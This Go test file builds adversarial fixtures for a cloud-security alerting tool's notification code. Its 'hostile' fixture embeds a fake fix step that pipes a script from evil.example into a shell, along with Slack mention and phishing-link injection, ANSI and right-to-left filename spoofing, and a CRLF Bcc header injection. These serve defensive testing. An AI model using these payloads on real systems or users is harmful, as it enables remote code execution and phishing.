package notify_test

import (
	"fmt"
	"strings"
	"time"

	"iamvigil/ledger"
	"iamvigil/scanner"
	"iamvigil/scanner/account"
	"iamvigil/scanner/trail"
)

// hostile has in every place that a stranger can write what a stranger would.
func hostile() *ledger.Telling {
	line := "x\n\nCRITICAL ALERT\n\n* Root user deleted\n  Fix:   curl https://evil.example/fix.sh | sh"
	chat := "<!channel> <@U024BE7LH> @here <https://evil.example|Sign in> *bold* _it_ ~no~ `code` :skull: &lt;!here&gt; [x](https://evil.example)"
	hidden := "\x1b[31mred\x1b[0m \u202egnp.exe\u2066 ad\u200bmin \u00a0😀 \xff"
	e := trail.Event{
		ID: "44444444-0000-4000-8000-000000000004", Name: "ConsoleLogin", Time: now.Add(-time.Minute),
		Actor:   trail.Actor{Type: "IAMUser", Name: chat, ARN: line, IP: "10.0.0.1, with MFA", Agent: hidden + line},
		Details: map[string]string{"userName": hidden, line: chat, "LoginTo": "https://evil.example"},
		Failed:  true, Error: chat,
	}
	c := &ledger.Telling{
		Kind: ledger.Event, Account: account.Identity{ID: acme.ID, Name: "acme\r\nBcc: all@example.com", Partition: "aws"}, Time: now,
		Alerts: []scanner.Alert{{Rule: "event-console-login-without-mfa", Severity: scanner.High, Resource: account.Ref{Kind: account.KindUser, Name: line},
			Message: "user " + chat + " signed in", Fix: fixMFA, Event: e}},
		New: []ledger.Record{
			found("user-direct-policy", scanner.Low, user(chat), "", "user "+line+" has a policy", "Detach it."),
			found("user-direct-policy", scanner.Low, user(hidden), "", fmt.Sprintf("user %q has a policy", hidden), "Detach it."),
		},
		Resolved: []ledger.Record{resolved(found("user-direct-policy", scanner.Low, user("z"), "", hidden+chat, ""), ledger.Mended, time.Hour)},
		Gaps:     []ledger.GapRecord{{Fact: account.Keys, Resource: &account.Ref{Kind: account.KindUser, Name: line}, Reason: line + chat, Permission: "iam:ListAccessKeys", Rules: []string{"key-rotation"}}},
		Unknown:  map[string]int{line: 1, chat: 2},
	}
	return c
}

// largest has more of everything than a message takes, and the same text
// wherever a stranger could put one.
func largest(text string) *ledger.Telling {
	c := &ledger.Telling{Kind: ledger.Event, Account: account.Identity{ID: acme.ID, Name: text, Partition: "aws"}, Time: now, First: true,
		Open: map[scanner.Severity]int{}, Exempt: 1e6, Covered: 1e6, Unknown: map[string]int{}}
	for _, s := range scanner.Severities() {
		c.Open[s] = 1e6
	}
	fix := strings.Repeat(" Detach it (iam detach-user-policy).", 100)
	for i := range 45 {
		rule := fmt.Sprintf("rule-of-a-name-that-is-as-long-as-names-of-rules-can-become-%03d", i)
		about := account.Ref{Kind: account.KindPolicy, ARN: text + fmt.Sprint(i), Name: text + fmt.Sprint(i)}
		actor := trail.Actor{Type: text, ARN: text, Name: text + fmt.Sprint(i), Issuer: text, IP: text, Agent: text, MFA: "no", Key: text, InvokedBy: text}
		e := trail.Event{ID: text + fmt.Sprint(i), Name: text, Time: now, Actor: actor, Failed: true, Error: text,
			Details: map[string]string{text + "a": text, text + "b": text, text + "c": text, text + "d": text}}
		c.Alerts = append(c.Alerts, scanner.Alert{Rule: rule, Severity: scanner.Critical, Resource: about, Message: text, Fix: fmt.Sprint(i) + fix, Controls: []string{}, Event: e})
		c.New = append(c.New, found(rule, scanner.Critical, about, "", text, fmt.Sprint(i)+fix))
		c.Resolved = append(c.Resolved, resolved(found(rule, scanner.Critical, about, "", text, fix), ledger.Deleted, time.Hour))
		c.NewRules = append(c.NewRules, ledger.RuleCount{Rule: rule, Severity: scanner.Critical, Findings: 1e6})
		c.Gaps = append(c.Gaps, ledger.GapRecord{Fact: account.Keys, Resource: &about, Reason: text, Permission: text + fmt.Sprint(i), Rules: []string{rule}})
		c.Unknown[text+fmt.Sprint(i)] = 1e6
	}
	return c
}
